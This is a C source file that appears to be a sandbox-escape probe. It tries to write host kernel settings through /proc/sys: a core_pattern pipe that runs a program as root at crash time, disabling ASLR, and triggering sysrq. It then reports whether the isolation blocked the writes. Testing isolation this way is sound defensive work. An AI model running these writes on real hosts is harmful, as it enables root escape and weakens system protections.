/* Write host-global kernel settings through /proc/sys and
 * /proc/sysrq-trigger (core_pattern is the classic escape: a pipe there
 * runs a program as root on the host at the next crash). */
#include "attack.h"

int main(void) {
    protocol_init("proc_sys");
    struct { const char *path, *value; } w[] = {
        {"/proc/sys/kernel/core_pattern", "|/tmp/atoll-attack-pwned %p"},
        {"/proc/sys/kernel/randomize_va_space", "0"},
        {"/proc/sys/vm/drop_caches", "1"},
        {"/proc/sysrq-trigger", "h"},
    };
    int written = 0;
    char errs[512] = "";
    for (unsigned i = 0; i < sizeof w / sizeof *w; i++) {
        int e = write_file(w[i].path, w[i].value);
        info("write %s: %s", w[i].path, ename(e));
        if (e == 0) written++;
        if (!strstr(errs, ename(e))) {
            if (*errs) strcat(errs, "/");
            strcat(errs, ename(e));
        }
    }
    /* Remount /proc/sys read-write (needs CAP_SYS_ADMIN; mount is blocked). */
    long r = mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
    info("remount /proc/sys rw: %s", r ? ename(errno) : "OK");
    if (written)
        verdict("ESCAPED", "wrote %d of 4 host settings", written);
    else
        verdict("BLOCKED", "every write refused (%s)", errs);
    return 0;
}
